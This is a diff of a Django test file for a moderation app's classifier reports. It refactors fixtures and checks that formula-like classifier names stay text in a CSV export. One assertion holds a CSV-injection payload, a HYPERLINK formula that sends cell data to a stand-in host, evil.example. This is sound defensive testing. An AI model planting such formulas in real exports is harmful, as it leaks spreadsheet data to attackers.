@@ -10,27 +10,17 @@ from typing import Any
 
 import pytest
 
-from moderation.models import PolicyCategory, Verdict
 from moderation.services.ingest import batch_process
-from moderation.services.review import decision_record
-from tests.factories import FlaggedItemFactory, SignalFactory, SubjectFactory
+from tests.factories import (
+    FlaggedItemFactory,
+    SignalFactory,
+    SubjectFactory,
+    category,
+    decide,
+    signed_in,
+)
 
 pytestmark = pytest.mark.django_db
-
-
-def category(slug: str) -> PolicyCategory:
-    return PolicyCategory.objects.get(slug=slug)
-
-
-@pytest.fixture
-def ada(client, admin_user):
-    client.force_login(admin_user)
-    return client
-
-
-def signed_in(client: Any, user: Any) -> Any:
-    client.force_login(user)
-    return client
 
 
 def page_of(response: Any) -> str:
@@ -55,13 +45,7 @@ def scored(acme, reviewer):
         item = FlaggedItemFactory(subject=subject)
         SignalFactory(item=item, classifier=classifier, category=category(slug), score=score)
         if verdict:
-            decision_record(
-                item=item,
-                reviewer=reviewer,
-                verdict=Verdict(verdict),
-                categories=[category(s) for s in decided],
-                note="",
-            )
+            decide(item, verdict, *decided, reviewer=reviewer)
 
     flag("tox-a", "violence", 0.95, "violation", "violence")
     flag("tox-a", "violence", 1.0, "violation", "violence", "hate")
@@ -94,8 +78,8 @@ def test_the_classifier_report_without_flags_says_so(client, senior):
     assert "No flags yet." in page_of(signed_in(client, senior).get("/reports/classifiers/"))
 
 
-def test_the_classifier_csv_has_its_header_and_the_right_numbers(ada, scored):
-    response = ada.get("/reports/classifiers.csv")
+def test_the_classifier_csv_has_its_header_and_the_right_numbers(admin_client, scored):
+    response = admin_client.get("/reports/classifiers.csv")
     assert response.status_code == 200 and response["Content-Type"] == "text/csv"
     assert 'filename="modqueue-classifiers.csv"' in response["Content-Disposition"]
     rows = list(csv.reader(io.StringIO(response.content.decode())))
@@ -117,13 +101,15 @@ def test_the_classifier_csv_has_its_header_and_the_right_numbers(ada, scored):
     ]
 
 
-def test_the_classifier_csv_leaves_the_rate_empty_where_nothing_is_decided(ada, acme):
+def test_the_classifier_csv_leaves_the_rate_empty_where_nothing_is_decided(admin_client, acme):
     SignalFactory(
         item=FlaggedItemFactory(subject=SubjectFactory(organization=acme)),
         classifier="tox-c",
         score=0.1,
     )
-    rows = list(csv.reader(io.StringIO(ada.get("/reports/classifiers.csv").content.decode())))
+    rows = list(
+        csv.reader(io.StringIO(admin_client.get("/reports/classifiers.csv").content.decode()))
+    )
     assert rows[1] == ["tox-c", "violence", "0.1", "0.2", "1", "0", "0", "0", ""]
 
 
@@ -164,7 +150,7 @@ FORMULAS = [
 ]
 
 
-def test_a_classifier_name_that_is_a_formula_stays_text_in_the_csv(ada, signed_key, item):
+def test_a_classifier_name_that_is_a_formula_stays_text_in_the_csv(admin_client, signed_key, item):
     response = signed_key.post(
         {
             "items": [
@@ -175,11 +161,13 @@ def test_a_classifier_name_that_is_a_formula_stays_text_in_the_csv(ada, signed_k
     )
     assert response.status_code == 202
     batch_process(batch_id=response.json()["batch_id"])
-    rows = list(csv.reader(io.StringIO(ada.get("/reports/classifiers.csv").content.decode())))
+    rows = list(
+        csv.reader(io.StringIO(admin_client.get("/reports/classifiers.csv").content.decode()))
+    )
     names = sorted(row[0] for row in rows[1:])
     assert names == sorted(f"'{name}" for name in FORMULAS)
     for row in rows[1:]:
         assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
     # The page shows the names as sent, escaped.
-    page = page_of(ada.get("/reports/classifiers/"))
+    page = page_of(admin_client.get("/reports/classifiers/"))
     assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in page
